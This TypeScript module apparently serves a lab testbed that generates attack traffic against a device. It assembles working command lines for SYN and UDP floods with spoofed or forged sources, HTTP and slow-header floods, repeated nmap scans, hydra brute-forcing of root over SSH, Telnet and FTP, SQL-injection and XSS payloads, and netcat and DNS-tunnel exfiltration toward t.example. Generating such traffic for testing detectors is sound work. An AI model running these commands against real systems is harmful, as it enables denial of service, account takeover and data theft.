/** Attacks of every class with real tools, as command lines: what is run against the device, or from it. */
import { fileURLToPath } from 'node:url';
import { runOwn } from '../attacks/scan-targets.ts';

const flooder = fileURLToPath(new URL('../programs/flooder.ts', import.meta.url));

/** Until it is stopped; a thousand packets a second. */
export const synFlood = (...target: readonly string[]): string[] => [
  'hping3',
  '-q',
  '-n',
  '-S',
  '-p',
  '80',
  '-i',
  'u1000',
  ...target,
];

export const udpFlood = (target: string): string[] => [
  'hping3',
  '-q',
  '-n',
  '--udp',
  '-p',
  '5683',
  '-d',
  '200',
  '-i',
  'u1000',
  target,
];

/** Every packet from another address. */
export const spoofedFlood = (target: string): string[] => synFlood('--rand-source', target);

/** Every packet from this address, which is somebody else's. */
export const floodInTheNameOf = (forged: string, target: string): string[] => synFlood('-a', forged, target);

/** Requests as fast as the server answers. */
export const requestFlood = (target: string): string[] => [
  'ab',
  '-q',
  '-r',
  '-n',
  '200000',
  '-c',
  '30',
  `http://${target}/index.html`,
];

export const connectionFlood = (host: string): string[] =>
  runOwn(flooder, JSON.stringify({ kind: 'connections', host, port: 80, bytes: 10, gapMs: 3, sockets: 60 }));

export const synScan = (target: string): string[] => [
  'nmap',
  '-n',
  '-Pn',
  '-sS',
  '-T4',
  '--max-rate',
  '150',
  '-p',
  '1-20000',
  target,
];

export const synScan6 = (target: string): string[] => [
  'nmap',
  '-6',
  '-n',
  '-Pn',
  '-sS',
  '-T4',
  '--max-rate',
  '150',
  '-p',
  '1-20000',
  target,
];

/** Port scans one after the other, without an end. */
export const scanAgainAndAgain = (target: string): string[] => {
  const scan = 'nmap -n -Pn -sS --min-rate 100 --max-rate 150 --max-retries 0 -p 1-1000';
  return ['bash', '-c', `while :; do ${scan} ${target}; done`];
};

/** A port scan of which every few ports come from another address: `addresses` are the attacker's own, on `eth0`. */
export const scanFromMany6 = (addresses: readonly string[], target: string): string[] => {
  const scan = 'nmap -6 -e eth0 -n -Pn -sS -T4 --min-rate 100 --max-rate 150 --max-retries 0';
  const rounds = addresses.map(
    (address, index) => `${scan} -S ${address} -p ${index * 40 + 1}-${index * 40 + 40} ${target}`,
  );
  return ['bash', '-c', `while :; do ${rounds.join('; ')}; done`];
};

export const connectScan = (target: string): string[] => [
  'nmap',
  '-n',
  '-Pn',
  '-sT',
  '-T4',
  '--max-rate',
  '100',
  '-p',
  '1-20000',
  target,
];

export const udpScan = (target: string): string[] => [
  'nmap',
  '-n',
  '-Pn',
  '-sU',
  '-T4',
  '--max-rate',
  '100',
  '--max-retries',
  '0',
  '-p',
  '1-20000',
  target,
];

/** hydra writes where it stands. `tasks`: connections at the same time. */
const guessing = (folder: string, tasks: number, target: string): string[] => [
  'env',
  '-C',
  folder,
  'hydra',
  '-I',
  '-q',
  '-l',
  'root',
  '-x',
  '4:4:a',
  '-t',
  String(tasks),
  target,
];

export const sshGuessing = (folder: string, host: string): string[] => guessing(folder, 16, `ssh://${host}`);
export const telnetGuessing = (folder: string, host: string): string[] => guessing(folder, 16, `telnet://${host}`);
export const ftpGuessing = (folder: string, host: string): string[] => guessing(folder, 8, `ftp://${host}`);

export const slowHeaders = (target: string): string[] => [
  'slowhttptest',
  '-H',
  '-c',
  '150',
  '-r',
  '30',
  '-i',
  '5',
  '-x',
  '24',
  '-l',
  '120',
  '-p',
  '3',
  '-u',
  `http://${target}/index.html`,
];

export const slowBodies = (target: string): string[] => [
  'slowhttptest',
  '-B',
  '-c',
  '150',
  '-r',
  '30',
  '-i',
  '5',
  '-x',
  '24',
  '-s',
  '8192',
  '-l',
  '120',
  '-p',
  '3',
  '-u',
  `http://${target}/index.html`,
];

const sqlWords = [
  "1'+or+'1'='1",
  '1+union+select+name,password+from+users--',
  "1';drop+table+readings;--",
  '1+and+1=1',
];
const scriptWords = ['<script>alert(1)</script>', '<img+src=x+onerror=alert(1)>', '"><svg/onload=alert(1)>'];

/** Requests with payloads in the address, a connection each, as scanners of web applications send them. */
function injections(target: string, path: string, words: readonly string[]): string[] {
  const addresses = words
    .map((word) => `'http://${target}${path}${encodeURIComponent(word).replaceAll("'", '%27')}'`)
    .join(' ');
  const script = `while :; do for address in ${addresses}; do curl -s -m 6 -A sqlmap/1.8 -o /dev/null "$address"; sleep 0.1; done; done`;
  return ['bash', '-c', script];
}

export const sqlInjection = (target: string): string[] => injections(target, '/app/reading?id=', sqlWords);
export const crossSiteScripting = (target: string): string[] => injections(target, '/app/comment?text=', scriptWords);

/** So many bytes that nobody knows, on a connection of their own each time, a second apart. */
export const rawUpload = (target: string, port: number, bytes: number): string[] => [
  'bash',
  '-c',
  `while :; do head -c ${bytes} /dev/urandom | busybox nc ${target} ${port}; sleep 1; done`,
];

/** A few words on a connection of their own each time, a second apart. */
export const rawBeacon = (target: string, port: number): string[] => [
  'bash',
  '-c',
  `while :; do echo id=4711-${'x'.repeat(60)} | busybox nc ${target} ${port}; sleep 1; done`,
];

/** What is stolen is in the names that are asked for: 76 bytes in three labels, twenty times a second at most. */
export const nameUpload = (target: string): string[] => {
  const label = (bytes: number): string => `$(head -c ${bytes} /dev/urandom | od -An -tx1 | tr -d ' \\n')`;
  const name = `${label(28)}.${label(28)}.${label(20)}.t.example`;
  return ['bash', '-c', `while :; do busybox nslookup -type=a ${name} ${target}; sleep 0.05; done`];
};
